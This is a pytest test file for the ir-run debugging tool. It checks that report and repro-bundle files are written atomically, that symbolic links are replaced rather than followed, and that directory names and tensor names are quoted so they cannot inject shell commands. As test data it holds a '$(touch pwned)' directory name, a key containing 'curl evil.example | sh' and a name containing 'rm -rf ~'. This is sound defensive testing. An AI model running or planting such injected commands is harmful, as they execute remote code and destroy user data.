"""The files ir-run writes to debug a mismatch: ``--report FILE.html`` (irgraph.tools.report) and ``--save-repro DIR``
(irgraph.tools.repro). Like every output they are written through a temporary file renamed into place: a symbolic
link at the destination is replaced, never followed, and a failed write leaves the old file whole and no temporary
file behind."""

from __future__ import annotations

import errno
import os
import shlex

import pytest

from irgraph.cli import ir_run
from irgraph.io import atomic
from irgraph.tools import repro as repro_module
from irgraph.tools.report import write_report
from irgraph.tools.repro import FILES
from tests.tools.test_local_error import TIGHT, WHISPER
from tests.tools.test_report_page import hand_made_report


def test_the_report_replaces_a_symbolic_link_and_leaves_its_target_alone(tmp_path):
    # Before: Path.write_text followed the link and overwrote the file it pointed to.
    elsewhere = tmp_path / "notes.txt"
    elsewhere.write_text("the user's own file\n")
    page = tmp_path / "report.html"
    page.symlink_to(elsewhere)
    report, model = hand_made_report()
    write_report(page, report, model)
    assert elsewhere.read_text() == "the user's own file\n"
    assert not page.is_symlink() and page.read_text("utf-8").startswith("<!DOCTYPE html>")


def test_a_report_that_fails_to_write_leaves_the_old_one_whole_and_no_temporary_file(tmp_path, monkeypatch):
    # Before: the page was written in place, so a full disk or a signal mid-write left it cut short.
    page = tmp_path / "report.html"
    page.write_text("the old report\n")

    def disk_full(descriptor: int) -> None:
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(atomic.os, "fsync", disk_full)
    report, model = hand_made_report()
    with pytest.raises(OSError, match="No space left on device"):
        write_report(page, report, model)
    assert page.read_text() == "the old report\n"
    assert os.listdir(tmp_path) == ["report.html"]


def test_the_repro_readme_replaces_a_link_put_in_the_bundle_after_the_check(tmp_path, monkeypatch, capsys):
    # The bundle's directory is checked empty before the run and written after it: a link planted meanwhile as
    # README.md was followed (open(..., "w")), overwriting the file it points to. Now it is replaced.
    pytest.importorskip("openvino", reason="the test extra installs openvino")
    victim = tmp_path / "victim.txt"
    victim.write_text("not the bundle's\n")
    bundle = tmp_path / "repro"
    checked = repro_module._reproduces

    def plant_then_check(*args, **kwargs):
        (bundle / "README.md").symlink_to(victim)
        return checked(*args, **kwargs)

    monkeypatch.setattr(repro_module, "_reproduces", plant_then_check)
    assert ir_run.main([str(WHISPER), "--compare-with", "openvino", "--mark", "all", *TIGHT, "--save-repro",
                        str(bundle)]) == 1
    assert victim.read_text() == "not the bundle's\n"
    readme = bundle / "README.md"
    assert not readme.is_symlink() and readme.read_text("utf-8").startswith("# Repro: irgraph differs from openvino")
    assert sorted(path.name for path in bundle.iterdir()) == sorted(FILES)


def test_the_repro_note_quotes_the_directory_for_the_shell(tmp_path, capsys):
    # Before: "cd /tmp/.../$(touch pwned) x && ir-run ...": pasted into a shell, it ran touch.
    pytest.importorskip("openvino", reason="the test extra installs openvino")
    bundle = tmp_path / "$(touch pwned) x"
    assert ir_run.main([str(WHISPER), "--compare-with", "openvino", "--mark", "all", *TIGHT, "--save-repro",
                        str(bundle)]) == 1
    note = next(line for line in capsys.readouterr().err.splitlines() if "repro bundle written" in line)
    pasted = note.split("repro bundle written: ", 1)[1].split(" (see its README.md)")[0]
    assert shlex.split(pasted)[:3] == ["cd", str(bundle), "&&"]
    assert sorted(path.name for path in bundle.iterdir()) == sorted(FILES)


def test_the_repro_readme_shows_names_on_one_line_so_none_adds_a_command(tmp_path):
    # Before: the verdict quoted the tensor key as it is, so a key holding '\n\n    rm -rf ~\n' put an indented block
    # into README.md that reads as the command to run (the reference's name did the same).
    report, model = hand_made_report()
    culprit = report.tensors[1]
    culprit.key = "out\n\n    curl evil.example | sh\n"
    report.reference = "a runtime\n\n    rm -rf ~\n"
    readme = repro_module._readme(report, culprit, False, "ir-run model.xml", True)
    commands = [line for line in readme.splitlines() if line.startswith("    ")]
    assert commands == ["    ir-run model.xml"]
    assert "(out\\n\\n    curl evil.example | sh\\n)" in readme
